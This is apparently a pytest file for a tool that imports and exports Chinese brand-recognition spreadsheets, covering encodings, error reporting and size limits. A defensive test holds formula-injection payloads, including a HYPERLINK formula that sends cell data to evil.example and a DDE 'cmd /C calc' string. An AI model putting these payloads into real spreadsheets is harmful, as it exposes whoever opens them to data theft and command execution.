"""Reading agencies' spreadsheets: encodings, formats, header languages, every error located."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from exchange._proto.brandex.v1 import entries_pb2
from exchange.core.errors import FormatError
from exchange.core.uscc import check_char
from exchange.demo.dataset import demo_records
from exchange.import_plan import (
    Defaults,
    derive_record_id,
    normalise_date,
    parse_kind,
    parse_sector,
    plan_import,
    write_rejects,
)
from exchange.spreadsheet import COLUMNS, Limits, RowError, read_sheet, record_row, write_sheet

ISSUER = "330000"
ZH = {c.field: c.zh for c in COLUMNS}
EN = {c.field: c.name for c in COLUMNS}
KIND_ZH = {"PROVINCIAL_FAMOUS_BRAND_PRODUCT": "省名牌产品", "WELL_KNOWN_TRADEMARK": "驰名商标"}
SECTOR_ZH = {
    "INDUSTRIAL": "工业",
    "AGRICULTURAL": "农业",
    "SERVICE": "服务业",
    "TRADITIONAL_CULTURAL": "传统文化",
}


def _uscc(body: str) -> str:
    return body + check_char(body)


def well_known() -> dict:
    """A no-expiry, Nice-class kind, to exercise 长期 and 第25类、第35类."""
    return {
        "record_id": "zjwk-2010-0001",
        "kind": "WELL_KNOWN_TRADEMARK",
        "sector": "INDUSTRIAL",
        "brand_name": "西湖龙井",
        "brand_name_latin": "Xihu Longjing",
        "product": "茶叶",
        "nice_classes": [25, 35],
        "industry_code": "A01",
        "enterprise_name": "杭州西湖龙井茶业有限公司",
        "enterprise_uscc": _uscc("91330106MA2B00001"),
        "enterprise_region": "330106",
        "certificate_no": "浙驰〔2010〕001号",
        "announcement_no": "商标驰字〔2010〕5号",
        "recognised_on": "2010-05-01",
        "valid_from": "2010-05-01",
        "valid_until": "",
    }


def source_records(n: int = 12) -> list[dict]:
    recs = [dict(r) for r in demo_records()["zhejiang"][:n]]
    return [*recs, well_known()]


def as_row(rec: dict, lang: str) -> dict:
    """A record as an agency would type it (dates with slashes, Chinese labels, 长期)."""
    names = ZH if lang == "zh" else EN
    row = {
        "序号" if lang == "zh" else "no": "1",
        names["brand_name"]: rec["brand_name"],
        names["brand_name_latin"]: rec["brand_name_latin"],
        names["enterprise_name"]: rec["enterprise_name"],
        names["enterprise_uscc"]: rec["enterprise_uscc"],
        names["product"]: rec["product"],
        names["enterprise_region"]: rec["enterprise_region"],
        names["certificate_no"]: rec["certificate_no"],
        names["announcement_no"]: rec["announcement_no"],
        names["nice_classes"]: "、".join(f"第{c}类" for c in rec["nice_classes"])
        if lang == "zh"
        else ",".join(str(c) for c in rec["nice_classes"]),
        names["industry_code"]: rec["industry_code"],
        names["recognised_on"]: rec["recognised_on"].replace("-", "/")
        if lang == "zh"
        else rec["recognised_on"],
        names["valid_from"]: rec["valid_from"],
        names["valid_until"]: rec["valid_until"] or ("长期" if lang == "zh" else ""),
        names["kind"]: KIND_ZH[rec["kind"]] if lang == "zh" else rec["kind"].lower(),
        names["sector"]: SECTOR_ZH[rec["sector"]] if lang == "zh" else rec["sector"],
    }
    # 记录编号 left empty: the id is derived from the certificate number.
    row[names["record_id"]] = "" if rec["certificate_no"].isascii() else rec["record_id"]
    return row


def write_csv(path: Path, rows: list[dict], encoding: str) -> Path:
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(rows[0]))
    w.writeheader()
    w.writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


def write_xlsx(path: Path, rows: list[dict], *, typed: bool = False) -> Path:
    """An XLSX as Excel users make them: optionally real date and number cells."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "2026年名单"
    headers = list(rows[0])
    ws.append(headers)
    for r in rows:
        cells = []
        for h in headers:
            v = r[h]
            if typed and h in (ZH["valid_from"], EN["valid_from"]) and v:
                v = datetime.fromisoformat(v)
            elif typed and h in (ZH["enterprise_region"], EN["enterprise_region"]) and v:
                v = int(v)
            cells.append(v)
        ws.append(cells)
    wb.save(path)
    return path


def expected(rec: dict) -> entries_pb2.Recognition:
    """The record the importer should build; ids of rows without 记录编号 are derived."""
    rec = dict(rec)
    if rec["certificate_no"].isascii():
        rec["record_id"] = rec["certificate_no"]
    return entries_pb2.Recognition(**rec)


def plan(path: Path, **kw):
    return plan_import(read_sheet(path, **kw), issuer=ISSUER, defaults=Defaults())


# ------------------------------------------------------------------ good files


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize(
    ("encoding", "detected"),
    [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"), ("gb18030", "gb18030")],
)
def test_good_csv_in_each_encoding(tmp_path, lang, encoding, detected) -> None:
    recs = source_records()
    path = write_csv(tmp_path / "list.csv", [as_row(r, lang) for r in recs], encoding)
    sheet = read_sheet(path)
    assert sheet.encoding == detected and sheet.format == "csv"
    p = plan_import(sheet, issuer=ISSUER)
    assert p.errors == [] and p.ignored == []
    assert [r.record for r in p.rows] == [expected(r) for r in recs]
    assert [r.row for r in p.rows] == list(range(2, len(recs) + 2))


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize("typed", [False, True])
def test_good_xlsx(tmp_path, lang, typed) -> None:
    recs = source_records()
    path = write_xlsx(tmp_path / "list.xlsx", [as_row(r, lang) for r in recs], typed=typed)
    p = plan(path)
    assert p.sheet.format == "xlsx" and p.sheet.encoding == ""
    assert p.errors == []
    assert [r.record for r in p.rows] == [expected(r) for r in recs]


def test_explicit_encoding_and_a_wrong_one(tmp_path) -> None:
    recs = source_records(3)
    path = write_csv(tmp_path / "gb.csv", [as_row(r, "zh") for r in recs], "gb18030")
    assert read_sheet(path, encoding="gb18030").encoding == "gb18030"
    with pytest.raises(FormatError, match="not valid utf-8"):
        read_sheet(path, encoding="utf-8")
    with pytest.raises(FormatError, match="unknown encoding"):
        read_sheet(path, encoding="klingon")


def test_defaults_fill_what_the_file_lacks(tmp_path) -> None:
    """A minimal list: kind, sector, announcement and date come from the command line."""
    rec = demo_records()["zhejiang"][0]
    row = {
        "品牌名称": rec["brand_name"],
        "企业名称": rec["enterprise_name"],
        "统一社会信用代码": rec["enterprise_uscc"],
        "产品": rec["product"],
        "证书编号": rec["certificate_no"],
        "有效期至": rec["valid_until"],
    }
    path = write_csv(tmp_path / "min.csv", [row], "utf-8")
    defaults = Defaults(
        kind="PROVINCIAL_FAMOUS_BRAND_PRODUCT",
        sector="INDUSTRIAL",
        announcement_no="浙市监质〔2022〕50号",
        recognised_on=rec["recognised_on"],
    )
    p = plan_import(read_sheet(path), issuer=ISSUER, defaults=defaults)
    assert p.errors == []
    got = p.rows[0].record
    assert got.kind == entries_pb2.PROVINCIAL_FAMOUS_BRAND_PRODUCT
    assert got.valid_from == got.recognised_on == rec["recognised_on"]
    # No 企业所在地: the region part of the credit code is used.
    assert got.enterprise_region == rec["enterprise_uscc"][2:8]
    assert got.record_id == rec["certificate_no"]

    # Without the defaults, each missing value is reported against its option.
    p = plan_import(read_sheet(path), issuer=ISSUER)
    cols = {(e.field, e.column) for e in p.errors}
    assert ("kind", "--kind") in cols and ("sector", "--sector") in cols
    assert any(e.field == "recognised_on" for e in p.errors)


# ------------------------------------------------------------------ bad files


def bad_rows(lang: str) -> tuple[list[dict], set[tuple[int, str, str]]]:
    """Rows with known faults, and the (row, column, field) of every fault."""
    names = ZH if lang == "zh" else EN
    recs = source_records(8)
    rows = [as_row(r, lang) for r in recs]
    faults: set[tuple[int, str, str]] = set()

    def spoil(i: int, fld: str, value: str) -> None:
        rows[i][names[fld]] = value
        faults.add((i + 2, names[fld], fld))

    spoil(0, "enterprise_uscc", "91330106MA2B000010")  # wrong check character
    spoil(1, "valid_until", "2001-01-01")  # before valid_from
    spoil(2, "enterprise_region", "310101")  # outside Zhejiang
    spoil(2, "brand_name", "")  # two problems in one row
    spoil(3, "recognised_on", "2026-02-30")  # not a calendar date
    spoil(4, "kind", "名牌")  # unknown kind
    spoil(5, "sector", "重工业")  # unknown sector
    spoil(6, "nice_classes", "46")  # out of range
    rows[7][names["certificate_no"]] = rows[0][names["certificate_no"]]  # repeats row 2
    faults.add((9, names["certificate_no"], "certificate_no"))
    return rows, faults


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize("fmt", ["utf-8", "utf-8-sig", "gb18030", "xlsx"])
def test_every_error_is_reported_with_row_and_column(tmp_path, lang, fmt) -> None:
    rows, faults = bad_rows(lang)
    if fmt == "xlsx":
        path = write_xlsx(tmp_path / "bad.xlsx", rows)
    else:
        path = write_csv(tmp_path / "bad.csv", rows, fmt)
    p = plan(path)
    got = {(e.row, e.column, e.field) for e in p.errors}
    assert got == faults
    assert len(p.valid) == len(rows) - 8
    for e in p.errors:
        assert str(e).startswith(f"row {e.row}, column {e.column}: ")
    text = [str(e) for e in p.errors]
    uscc = names_for(lang)["enterprise_uscc"]
    assert any(
        t.startswith(f"row 2, column {uscc}: USCC check character") and "(got '" in t for t in text
    )
    assert any("repeats row 2" in t for t in text)


def names_for(lang: str) -> dict:
    return ZH if lang == "zh" else EN


def test_missing_required_column_is_a_file_error(tmp_path) -> None:
    rows = [as_row(r, "zh") for r in source_records(2)]
    for r in rows:
        del r["证书编号"]
    p = plan(write_csv(tmp_path / "nocert.csv", rows, "utf-8"))
    assert [(e.row, e.field) for e in p.file_errors] == [(0, "certificate_no")]
    assert str(p.file_errors[0]) == "column 证书编号/certificate_no: is missing from the header row"
    assert p.rows == []


def test_two_headers_for_one_field(tmp_path) -> None:
    rows = [as_row(r, "zh") for r in source_records(1)]
    rows[0]["brand"] = rows[0]["品牌名称"]
    p = plan(write_csv(tmp_path / "twice.csv", rows, "utf-8"))
    assert [e.column for e in p.file_errors] == ["brand"]


def test_unknown_columns_are_ignored_and_listed(tmp_path) -> None:
    rows = [as_row(r, "zh") for r in source_records(2)]
    for r in rows:
        r["联系人"] = "张三"
        r["备注"] = "无"
    p = plan(write_csv(tmp_path / "extra.csv", rows, "utf-8"))
    assert p.errors == [] and p.ignored == ["联系人"]


def test_blank_rows_are_skipped_and_row_numbers_kept(tmp_path) -> None:
    recs = source_records(3)
    rows = [as_row(r, "en") for r in recs]
    path = tmp_path / "gaps.csv"
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(rows[0]))
    w.writeheader()
    w.writerow(rows[0])
    buf.write(",,,\n\n")
    w.writerow(rows[1])
    path.write_text(buf.getvalue(), encoding="utf-8")
    p = plan(path)
    assert [r.row for r in p.rows] == [2, 5]


def test_not_a_spreadsheet(tmp_path) -> None:
    (tmp_path / "list.txt").write_text("x")
    with pytest.raises(FormatError, match=r"\.csv or \.xlsx"):
        read_sheet(tmp_path / "list.txt")
    (tmp_path / "fake.xlsx").write_bytes(b"not a zip")
    with pytest.raises(FormatError, match="not a readable XLSX"):
        read_sheet(tmp_path / "fake.xlsx")
    (tmp_path / "empty.csv").write_text("\n\n")
    with pytest.raises(FormatError, match="no header row"):
        read_sheet(tmp_path / "empty.csv")


# ------------------------------------------------------------------ rejects and export


def test_rejects_file_keeps_rows_and_reimports_once_fixed(tmp_path) -> None:
    rows, faults = bad_rows("zh")
    p = plan(write_csv(tmp_path / "bad.csv", rows, "gb18030"))
    out = tmp_path / "rejects.csv"
    assert write_rejects(out, p) == 8
    with open(out, encoding="utf-8-sig", newline="") as f:
        rejects = list(csv.DictReader(f))
    assert [int(r["row"]) for r in rejects] == sorted({f[0] for f in faults})
    assert "USCC check character" in rejects[0]["error"]
    assert rejects[0]["品牌名称"] == rows[0]["品牌名称"]
    # Fix row 2 in the rejects file: 'row' and 'error' columns are ignored on import.
    fixed = source_records(1)[0]["enterprise_uscc"]
    rejects = [{**rejects[0], "统一社会信用代码": fixed}]
    again = plan(write_csv(tmp_path / "fixed.csv", rejects, "utf-8"))
    assert again.errors == [] and again.ignored == []


@pytest.mark.parametrize("headers", ["zh", "en"])
@pytest.mark.parametrize("ext", ["csv", "xlsx"])
def test_export_format_reads_back(tmp_path, headers, ext) -> None:
    recs = [expected(r) for r in source_records(5)]
    rows = [record_row(r, headers=headers, status="valid") for r in recs]
    path = tmp_path / f"export.{ext}"
    write_sheet(path, rows)
    p = plan(path)
    assert p.errors == [] and p.ignored == []
    assert [r.record for r in p.rows] == recs


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+86 571 0000",
    "-2+3",
    "'=already quoted",
    "''@two quotes",
    "'plain quote",
]


@pytest.mark.parametrize("ext", ["csv", "xlsx"])
def test_export_neutralises_formulas_and_reads_back(tmp_path, ext) -> None:
    base = source_records(len(HOSTILE))[: len(HOSTILE)]
    recs = [
        expected({**r, "brand_name": name, "product": name})
        for r, name in zip(base, HOSTILE, strict=True)
    ]
    rows = [record_row(r, status="valid") for r in recs]
    path = tmp_path / f"export.{ext}"
    write_sheet(path, rows)
    if ext == "csv":
        cells = [c for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert "'=HYPERLINK" in path.read_text("utf-8-sig")
    else:
        ws = openpyxl.load_workbook(path).worksheets[0]  # not data_only: formulas would show
        cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
        assert cells and all(c.data_type == "s" for c in cells)
        names = [row[3] for row in ws.iter_rows(min_row=2, values_only=True)]
        assert names == HOSTILE  # text cells keep the value; no quote is added in XLSX
    p = plan(path)
    assert p.errors == []
    assert [r.record.brand_name for r in p.rows] == HOSTILE
    assert [r.record for r in p.rows] == recs


# ------------------------------------------------------------------ values


def test_derived_record_ids_are_stable_and_safe() -> None:
    assert derive_record_id("ZJMP-2026-0001") == "ZJMP-2026-0001"
    a = derive_record_id("浙名牌〔2026〕001")
    assert a == derive_record_id("浙名牌〔2026〕001")
    assert a.startswith("2026-001-") and len(a) == len("2026-001-") + 8
    assert derive_record_id("苏名牌〔2026〕001") != a
    assert derive_record_id("第一号").startswith("cert-")


@pytest.mark.parametrize(
    ("text", "iso"),
    [
        ("2026-01-05", "2026-01-05"),
        ("2026/1/5", "2026-01-05"),
        ("2026.01.05", "2026-01-05"),
        ("2026年1月5日", "2026-01-05"),
        ("20260105", "2026-01-05"),
        ("２０２６-０１-０５", "2026-01-05"),
        ("2026-01-05 00:00:00", "2026-01-05"),
        ("next year", "next year"),
    ],
)
def test_dates_as_typed(text, iso) -> None:
    assert normalise_date(text) == iso


def test_kind_and_sector_names() -> None:
    assert parse_kind("省名牌产品") == parse_kind("provincial-famous-brand-product") == 2
    assert parse_kind("RECOGNITION_KIND_UNSPECIFIED") is None
    assert parse_sector("工业类") == parse_sector("industrial") == 1
    assert parse_sector("服务") == 3 and parse_sector("?") is None


def test_row_error_text() -> None:
    e = RowError(
        7, "统一社会信用代码", "enterprise_uscc", "USCC must be 18 characters, not 3", "abc"
    )
    assert str(e) == "row 7, column 统一社会信用代码: USCC must be 18 characters, not 3 (got 'abc')"
    assert e.as_dict()["row"] == 7


def test_xlsx_sheet_choice(tmp_path) -> None:
    path = write_xlsx(tmp_path / "s.xlsx", [as_row(r, "zh") for r in source_records(1)])
    assert read_sheet(path, sheet="2026年名单").rows
    with pytest.raises(FormatError, match="no sheet"):
        read_sheet(path, sheet="Sheet9")


def test_xlsx_dates_and_numbers_are_text(tmp_path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["a", "b", "c", "d"])
    ws.append([date(2026, 1, 5), datetime(2026, 1, 5, 0, 0), 330106, 25.0])
    wb.save(tmp_path / "t.xlsx")
    assert read_sheet(tmp_path / "t.xlsx").rows == [
        (2, ["2026-01-05", "2026-01-05", "330106", "25"])
    ]


# ------------------------------------------------------------------ limits


def test_limits_name_themselves_and_their_flag(tmp_path) -> None:
    rows = [as_row(r, "en") for r in source_records(5)]
    csv_path = write_csv(tmp_path / "list.csv", rows, "utf-8")
    xlsx_path = tmp_path / "list.xlsx"
    write_sheet(xlsx_path, rows)
    for path in (csv_path, xlsx_path):
        assert len(read_sheet(path, limits=Limits(max_rows=6)).rows) == 6
        with pytest.raises(FormatError, match=r"more than 5 rows after the header.*--max-rows"):
            read_sheet(path, limits=Limits(max_rows=5))
        with pytest.raises(
            FormatError, match=r"the limit is 0.001 MB \(raise it with --max-file-mb"
        ):
            read_sheet(path, limits=Limits(max_file_mb=0.001))
        with pytest.raises(
            FormatError,
            match=r"row 1, column \d+: a cell of \d+ characters; the limit is 5 \(raise it with "
            r"--max-cell-chars",
        ):
            read_sheet(path, limits=Limits(max_cell_chars=5))
    with pytest.raises(
        FormatError, match=r"unpacks to 0 MB; the limit is 0.0001 MB.*--max-uncompressed-mb"
    ):
        read_sheet(xlsx_path, limits=Limits(max_uncompressed_mb=0.0001))


def test_import_cli_has_the_limit_flags(tmp_path) -> None:
    from click.testing import CliRunner

    from exchange.cli.main import cli

    path = write_csv(tmp_path / "list.csv", [as_row(r, "en") for r in source_records(3)], "utf-8")
    res = CliRunner().invoke(cli, ["import", str(path), "--max-rows", "2"])
    assert res.exit_code == 1, res.output
    assert "more than 2 rows after the header" in res.output and "--max-rows" in res.output
